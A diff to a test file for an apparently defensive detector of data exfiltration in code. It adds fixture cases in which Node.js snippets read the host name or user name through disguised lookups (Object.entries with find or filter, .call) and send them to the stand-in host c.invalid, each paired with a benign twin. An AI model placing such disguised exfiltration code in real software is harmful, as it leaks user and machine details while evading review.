@@ -10,6 +10,18 @@ import { findingsFor, runDetectorCases, type DetectorCase } from '../../support/
 
 const CASES: DetectorCase[] = [
   {
+    name: 'disguised: an entry searched with Object.entries(...).find',
+    code: "const os = require('os'); const https = require('https');\nconst [, fn] = Object.entries(os).find(([k]) => k === 'hostname'); const host = fn();\nhttps.get('https://c.invalid/?h=' + host);",
+    expect: [{ severity: 'high', line: 3, sourceKind: 'hostname', messageIncludes: 'Object.entries' }],
+    twin: { code: "const os = require('os'); const https = require('https');\nconst [, fn] = Object.entries(os).find(([k]) => k === 'arch'); const host = fn();\nhttps.get('https://c.invalid/?h=' + host);" },
+  },
+  {
+    name: 'disguised: entries filtered, the value called through .call',
+    code: "const os = require('os'); const https = require('https');\nconst host = Object.entries(os).filter(([k]) => k === 'userInfo')[0][1].call(os).username;\nhttps.get('https://c.invalid/?u=' + host);",
+    expect: [{ severity: 'high', line: 3, sourceKind: 'user' }],
+    twin: { code: "const os = require('os'); const https = require('https');\nconst host = Object.entries(os).filter(([k]) => k === 'uptime')[0][1].call(os);\nhttps.get('https://c.invalid/?u=' + host);" },
+  },
+  {
     name: 'disguised: Reflect.get',
     code: "const os = require('os'); const https = require('https');\nconst host = Reflect.get(os, 'hostname')();\nhttps.get('https://c.invalid/?h=' + host);",
     expect: [{ severity: 'high', line: 3, sourceKind: 'hostname', messageIncludes: 'the read is disguised' }],
@@ -186,7 +198,7 @@ function reportsFor(detector: Detector, code: string): DetectorReport[] {
 
 describe('install-time escalation', () => {
   it.each<[string, Detector, string, string]>([
-    ['a host name sent away', fingerprintExfiltration, CASES[0]?.code ?? '', 'critical'],
+    ['a host name sent away', fingerprintExfiltration, CASES.find((c) => c.name === 'host name in a fetch body')?.code ?? '', 'critical'],
     ['a timezone sent away', fingerprintExfiltration, CASES.find((c) => c.name.startsWith('timezone in a header'))?.code ?? '', 'medium'],
     [
       'targeting that deletes files',
